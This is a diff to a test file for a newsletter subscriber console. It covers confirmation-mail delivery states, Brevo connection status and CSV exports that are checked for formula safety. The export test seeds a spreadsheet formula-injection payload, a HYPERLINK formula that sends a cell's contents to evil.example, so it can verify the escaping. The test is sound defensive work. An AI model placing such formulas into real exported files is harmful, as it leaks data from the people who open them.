@@ -120,12 +120,28 @@ describe(`the subscribers in the console on ${testDialect}`, () => {
     expect(one).toMatchObject({
       status: 'pending',
       attributes: { FIRSTNAME: 'Thandi', PROJECT_DATE: '2027-03-05' },
-      pendingChange: { form: { id: 1 }, confirmationSentAt: '2026-11-20T08:00:00.000Z' },
+      // The form's labels, without "(optional)", for the console to show beside Brevo's names.
+      attributeLabels: { FIRSTNAME: 'First name', PROJECT_DATE: 'When does your next display project start?' },
+      // Queued, not sent: no SMTP_URL here (it said "mail sent" before).
+      pendingChange: { form: { id: 1 }, confirmationMail: { state: 'waiting', since: '2026-11-20T08:00:00.000Z', blockedBy: 'SMTP_URL' } },
       consents: [{ action: 'subscribe', wording: homeNewsletterForm.consent.label, at: '2026-11-20T08:00:00.000Z', form: { id: 1 } }],
-      brevo: { syncedAt: null, error: null },
+      // No BREVO_API_KEY here: not connected, rather than "not synced yet".
+      brevo: { connected: false, syncedAt: null, error: null },
     });
     expect((await get('/subscribers/99999')).json()).toMatchObject({ code: CONSOLE_REFUSAL.notFound });
     expect((await get('/subscribers/99999999999')).statusCode).toBe(404);
+  });
+
+  it('says the confirmation mail is sent only once the mail server accepted it; failing, with its answer, or held before', async () => {
+    const id = await signUp();
+    const confirmation = async () => (await detail(id)).pendingChange?.confirmationMail;
+    const outbox = () => test.app.db.updateTable('outbox').where('to_address', '=', 'thandi.nkosi@example.co.za');
+    await outbox().set({ last_error: 'connect ECONNREFUSED 127.0.0.1:25', next_attempt_at: '2026-11-20T08:01:00.000Z' }).execute();
+    expect(await confirmation()).toEqual({ state: 'failing', since: '2026-11-20T08:00:00.000Z', reason: 'connection', smtpAnswer: 'connect ECONNREFUSED 127.0.0.1:25', nextAttemptAt: '2026-11-20T08:01:00.000Z' });
+    await outbox().set({ failed_at: '2026-11-27T08:00:00.000Z' }).execute();
+    expect(await confirmation()).toEqual({ state: 'held', since: '2026-11-27T08:00:00.000Z', smtpAnswer: 'connect ECONNREFUSED 127.0.0.1:25' });
+    await outbox().set({ failed_at: null, last_error: null, delivered_at: '2026-11-27T09:00:00.000Z' }).execute();
+    expect(await confirmation()).toEqual({ state: 'sent', at: '2026-11-27T09:00:00.000Z' });
   });
 
   it('filters by status and list, searches by part of the address in any case, and pages 50 at a time', async () => {
@@ -175,7 +191,7 @@ describe(`the subscribers in the console on ${testDialect}`, () => {
     clock = START + MAILBOX_MAIL_WINDOW_MS + 1000;
     const sent = await post(`/subscribers/${id}/resend-confirmation`, {});
     expect(sent.statusCode, sent.body).toBe(200);
-    expect(sent.json().subscriber.pendingChange.confirmationSentAt).toBe(new Date(clock).toISOString());
+    expect(sent.json().subscriber.pendingChange.confirmationMail).toEqual({ state: 'waiting', since: new Date(clock).toISOString(), blockedBy: 'SMTP_URL' });
     expect(await mails()).toBe(4);
     const mail = await test.app.db.selectFrom('outbox').select(['body']).orderBy('id', 'desc').executeTakeFirstOrThrow();
     expect(mail.body).toContain('https://news.example.co.za/newsletter/confirm/?token=');
@@ -208,10 +224,12 @@ describe(`the subscribers in the console on ${testDialect}`, () => {
     expect([again.statusCode, again.json().code]).toEqual([409, SUBSCRIBERS_ERROR.alreadyUnsubscribed]);
   });
 
-  it('exports for a spreadsheet (every status, formula-safe) and for a mailing service (Brevo columns, subscribed only, no guard), both audited', async () => {
+  it('exports for a spreadsheet (every status, formula-safe) and for a mailing service (Brevo columns, subscribed only, formula-safe but for plain SMS numbers), both audited', async () => {
     await seed('thandi@example.co.za', 'subscribed', { sms: '+27825550123', attributes: { FIRSTNAME: '=HYPERLINK("x")', LASTNAME: 'Nkosi' } });
     await seed('sipho@example.co.za', 'pending', { sms: '+27825550999' });
     await seed('lerato@example.co.za', 'unsubscribed');
+    // A first name that, opened in a spreadsheet, sends the cell beside it away; an SMS value that is no plain number.
+    await seed('mallory@example.co.za', 'subscribed', { sms: '=1+2', attributes: { FIRSTNAME: '=HYPERLINK("https://evil.example/?d="&A3,"x")', LASTNAME: 'Acme;=1+2' } });
     const sheet = await get('/subscribers/export.csv', owner);
     expect(sheet.statusCode).toBe(200);
     expect(sheet.headers['content-type']).toBe('text/csv; charset=utf-8');
@@ -219,20 +237,25 @@ describe(`the subscribers in the console on ${testDialect}`, () => {
     const sheetLines = sheet.body.split('\r\n');
     expect(sheetLines[0]).toBe('\uFEFFemail,status,lists,sms,FIRSTNAME,LASTNAME,created_at,confirmed_at,unsubscribed_at,consent_form_id,consent_wording,consent_at');
     expect(sheetLines[1]).toMatch(/^thandi@example\.co\.za,subscribed,2,'\+27825550123,"'=HYPERLINK\(""x""\)",Nkosi,/);
-    expect(sheetLines.filter((line) => line !== '')).toHaveLength(4);
+    expect(sheetLines.filter((line) => line !== '')).toHaveLength(5);
 
     const brevo = await get('/subscribers/export-brevo.csv', owner);
     expect(brevo.statusCode).toBe(200);
     expect(brevo.headers['content-disposition']).toBe('attachment; filename="subscribers-for-brevo-2026-11-20.csv"');
-    expect(brevo.body).toBe('EMAIL,FIRSTNAME,LASTNAME,SMS\r\nthandi@example.co.za,"=HYPERLINK(""x"")",Nkosi,+27825550123\r\n');
+    // Every attribute guarded; the SMS column as Brevo reads it (+27…) where it is a plain number, guarded where not.
+    expect(brevo.body).toBe(
+      'EMAIL,FIRSTNAME,LASTNAME,SMS\r\n' +
+        'thandi@example.co.za,"\'=HYPERLINK(""x"")",Nkosi,+27825550123\r\n' +
+        'mallory@example.co.za,"\'=HYPERLINK(""https://evil.example/?d=""&A3,""x"")","Acme;\'=1+2",\'=1+2\r\n',
+    );
     expect((await get('/subscribers/export-brevo.csv?status=pending', owner)).body).toBe(brevo.body);
 
     const filtered = await get('/subscribers/export.csv?status=pending', owner);
     expect(filtered.body.split('\r\n').filter((line) => line !== '').map((line) => line.split(',')[0])).toEqual(['\uFEFFemail', 'sipho@example.co.za']);
     expect((await audit()).map((entry) => [entry.action, JSON.parse(entry.detail)])).toEqual([
-      ['export', { kind: 'spreadsheet', filter: {}, rows: 3 }],
-      ['export', { kind: 'mailing-service', filter: {}, rows: 1 }],
-      ['export', { kind: 'mailing-service', filter: { status: 'pending' }, rows: 1 }],
+      ['export', { kind: 'spreadsheet', filter: {}, rows: 4 }],
+      ['export', { kind: 'mailing-service', filter: {}, rows: 2 }],
+      ['export', { kind: 'mailing-service', filter: { status: 'pending' }, rows: 2 }],
       ['export', { kind: 'spreadsheet', filter: { status: 'pending' }, rows: 1 }],
     ]);
   });
